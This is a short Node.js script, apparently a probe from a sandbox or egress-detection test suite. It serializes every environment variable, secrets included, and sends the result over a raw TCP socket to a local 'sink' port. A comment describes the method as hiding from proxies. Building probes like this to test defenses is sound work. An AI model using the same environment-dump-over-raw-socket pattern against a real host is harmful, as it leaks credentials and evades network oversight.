'use strict';
// Raw TCP to an IP literal: no HTTP, no host name, nothing for a proxy to see.
const net = require('net');
const lib = require('./lib.js');

lib.run(async () => {
  const body = `marker=${lib.cfg.netMarker}\n${JSON.stringify(process.env)}`;
  lib.found(body);
  await new Promise((resolve) => {
    const s = net.connect({ host: '127.0.0.1', port: lib.cfg.sinks.tcp });
    s.setTimeout(2000, () => s.destroy());
    s.on('connect', () => {
      lib.did('connected');
      s.end(body);
    });
    s.on('error', (e) => lib.note(`tcp: ${e.code}`));
    s.on('close', resolve);
  });
});
